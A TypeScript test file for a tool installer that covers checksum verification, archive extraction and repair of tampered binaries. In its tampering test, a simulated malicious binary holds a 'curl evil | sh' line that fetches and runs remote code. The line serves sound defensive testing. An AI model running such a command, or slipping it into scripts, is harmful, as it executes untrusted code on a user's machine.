import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import test, { type ExecutionContext } from 'ava';
import type { ToolConfig } from '../../src/config/types.js';
import { FleetError } from '../../src/errors.js';
import { silentLogger } from '../../src/log.js';
import { openStore } from '../../src/store/index.js';
import { installTool, installTools, listInstalledTools, toolPaths, verifyInstalledTools } from '../../src/tools/index.js';
import { startEmulator } from '../emulator/index.js';
import { countingFetch, tempDir } from '../runner/util.js';
import { makeTarGz, makeZip } from './archives.js';

const sha = (b: Buffer | string) => crypto.createHash('sha256').update(b).digest('hex');
const ARGOCD = '#!/bin/sh\necho argocd: v2.13.3\n';

async function setup(t: ExecutionContext) {
  const emu = await startEmulator();
  t.teardown(() => emu.close());
  const dataDir = await tempDir(t, 'rf-tools-');
  const store = openStore(dataDir);
  t.teardown(() => store.close());
  return { emu, dataDir, store };
}

test('plain binary: installed atomically with marker, version output recorded, then idempotent', async (t) => {
  const { emu, dataDir, store } = await setup(t);
  const base = emu.serveFile('argocd/v2.13.3/argocd-linux-amd64', ARGOCD).replace('v2.13.3', '{version}').replace('amd64', '{arch}');
  const tool: ToolConfig = { name: 'argocd', version: 'v2.13.3', url: base, sha256: sha(ARGOCD), versionCommand: ['version', '--client'] };
  const { fetch, calls } = countingFetch();
  const cfg = { host: { name: 'h', dataDir }, tools: [tool] };
  const [inst] = await installTools({ cfg, fetch, store, logger: silentLogger(), arch: 'x64' });
  const p = toolPaths(dataDir, tool, 'x64');
  t.is(inst?.binPath, p.binPath);
  t.is(p.dir, path.join(dataDir, 'tools', 'argocd', 'v2.13.3', 'x64'));
  t.true(fs.existsSync(path.join(dataDir, 'tools', 'argocd', 'v2.13.3', 'x64.complete')));
  t.is(fs.statSync(p.binPath).mode & 0o111, 0o111);
  t.is(inst?.versionOutput, 'argocd: v2.13.3');
  t.is(store.tools.get('argocd', 'v2.13.3', 'x64')?.versionOutput, 'argocd: v2.13.3');
  t.is(calls.length, 1);
  t.deepEqual(fs.readdirSync(p.versionDir).sort(), ['x64', 'x64.complete']);

  const again = await installTool(tool, { dataDir, fetch, store, arch: 'x64' });
  t.false(again.downloaded);
  t.is(calls.length, 1, 'present + complete + hash matches: no download');
  t.deepEqual(listInstalledTools(cfg, 'x64').map((x) => x.dir), [p.dir]);
});

test('tar.gz and zip archives with a binary path; archMap', async (t) => {
  const { emu, dataDir, store } = await setup(t);
  const yq = '#!/bin/sh\necho yq version v4.40.5\n';
  const tgz = await makeTarGz({ './yq_linux_amd64': yq, 'README.md': 'docs' });
  const zip = makeZip({ 'helm/linux-x86_64/helm': '#!/bin/sh\necho helm\n', 'helm/LICENSE': 'x' });
  const tools: ToolConfig[] = [
    { name: 'yq', version: 'v4.40.5', url: emu.serveFile('yq/v4.40.5/yq_linux_amd64.tar.gz', tgz).replace('v4.40.5/yq_linux_amd64', '{version}/yq_linux_{arch}'), sha256: sha(tgz), binary: 'yq_linux_{arch}', versionCommand: ['--version'] },
    { name: 'helm', version: 'v3', url: emu.serveFile('helm-v3-linux-x86_64.zip', zip).replace('x86_64', '{arch}'), sha256: sha(zip), binary: 'helm/linux-{arch}/helm', archMap: { x64: 'x86_64' } },
  ];
  const done = await installTools({ cfg: { host: { name: 'h', dataDir }, tools }, fetch, store, arch: 'x64' });
  t.is(done[0]?.versionOutput, 'yq version v4.40.5');
  t.is(fs.readFileSync(toolPaths(dataDir, tools[0]!, 'x64').binPath, 'utf8'), yq);
  t.is(fs.readFileSync(toolPaths(dataDir, tools[1]!, 'x64').binPath, 'utf8'), '#!/bin/sh\necho helm\n');
  t.deepEqual(fs.readdirSync(toolPaths(dataDir, tools[1]!, 'x64').dir), ['helm']);
});

test('checksumUrl in sha256sum format picks the line for the file', async (t) => {
  const { emu, dataDir } = await setup(t);
  const bin = '#!/bin/sh\necho kubectl\n';
  const url = emu.serveFile('k/v1/kubectl-linux-amd64', bin);
  const sums = `${'0'.repeat(64)}  kubectl-linux-arm64\n${sha(bin)} *kubectl-linux-amd64\n`;
  const checksumUrl = emu.serveFile('k/v1/SHA256SUMS', sums);
  const tool: ToolConfig = { name: 'kubectl', version: 'v1', url: url.replace('amd64', '{arch}'), checksumUrl };
  const r = await installTool(tool, { dataDir, fetch, arch: 'x64' });
  t.is(fs.readFileSync(r.binPath, 'utf8'), bin);

  const badSums = emu.serveFile('k/v2/SHA256SUMS', `${'0'.repeat(64)}  kubectl-linux-amd64\n`);
  emu.serveFile('k/v2/kubectl-linux-amd64', bin);
  const err = await t.throwsAsync(installTool({ ...tool, version: 'v2', url: url.replace('v1', '{version}'), checksumUrl: badSums }, { dataDir, fetch, arch: 'x64' }));
  t.is((err as FleetError).code, 'CHECKSUM_MISMATCH');
});

test('a checksum mismatch installs nothing', async (t) => {
  const { emu, dataDir, store } = await setup(t);
  const url = emu.serveFile('evil/argocd', ARGOCD);
  const tool: ToolConfig = { name: 'argocd', version: 'v2.13.3', url, sha256: 'c'.repeat(64) };
  const err = await t.throwsAsync(installTools({ cfg: { host: { name: 'h', dataDir }, tools: [tool] }, fetch, store, arch: 'x64' }));
  t.is((err as FleetError).code, 'CHECKSUM_MISMATCH');
  const p = toolPaths(dataDir, tool, 'x64');
  t.false(fs.existsSync(p.dir));
  t.false(fs.existsSync(p.marker));
  t.deepEqual(fs.existsSync(p.versionDir) ? fs.readdirSync(p.versionDir) : [], []);
  t.is(store.tools.get('argocd', 'v2.13.3', 'x64'), undefined);
});

test('tampering is detected at start, reported, and repaired', async (t) => {
  const { emu, dataDir, store } = await setup(t);
  const url = emu.serveFile('argocd', ARGOCD);
  const tool: ToolConfig = { name: 'argocd', version: 'v2.13.3', url, sha256: sha(ARGOCD) };
  const cfg = { host: { name: 'h', dataDir }, tools: [tool] };
  await installTools({ cfg, fetch, store, arch: 'x64' });
  const clean = await verifyInstalledTools({ cfg, fetch, store, arch: 'x64' });
  t.deepEqual(clean.ok, ['argocd@v2.13.3']);

  const bin = toolPaths(dataDir, tool, 'x64').binPath;
  fs.writeFileSync(bin, '#!/bin/sh\ncurl evil | sh\n');
  const { fetch: counted, calls } = countingFetch();
  const r = await verifyInstalledTools({ cfg, fetch: counted, store, arch: 'x64' });
  t.deepEqual(r.tampered, ['argocd@v2.13.3']);
  t.deepEqual(r.reinstalled, ['argocd@v2.13.3']);
  t.is(calls.length, 1);
  t.is(fs.readFileSync(bin, 'utf8'), ARGOCD);
  t.is(store.events.recent(10, { kind: 'TOOL_TAMPERED' }).length, 1);
});

test('a v-prefixed version is also where actions/tool-cache find() looks (tools/{name}/{semver-clean version}/{arch} with {arch}.complete): a link, idempotent', async (t) => {
  const { emu, dataDir, store } = await setup(t);
  const base = emu.serveFile('argocd/v2.13.3/argocd-linux-amd64', ARGOCD).replace('v2.13.3', '{version}').replace('amd64', '{arch}');
  const tool: ToolConfig = { name: 'argocd', version: 'v2.13.3', url: base, sha256: sha(ARGOCD) };
  const plain: ToolConfig = { ...tool, name: 'yq', version: '4.40.5', url: emu.serveFile('yq/4.40.5/yq', ARGOCD) };
  const cfg = { host: { name: 'h', dataDir }, tools: [tool, plain] };
  await installTools({ cfg, fetch, store, arch: 'x64' });
  // What @actions/tool-cache's find('argocd', 'v2.13.3' or '2.13.3') checks: {cache}/argocd/2.13.3/x64 and its .complete.
  const found = path.join(dataDir, 'tools', 'argocd', '2.13.3');
  t.true(fs.existsSync(path.join(found, 'x64', 'argocd')));
  t.true(fs.existsSync(path.join(found, 'x64.complete')));
  t.is(fs.readlinkSync(found), 'v2.13.3', 'a relative link: it resolves inside containers too');
  t.deepEqual(fs.readdirSync(path.join(dataDir, 'tools', 'yq')), ['4.40.5'], 'an already clean version gets no link');
  await installTools({ cfg, fetch, store, arch: 'x64' });
  t.is(fs.readlinkSync(found), 'v2.13.3');
});
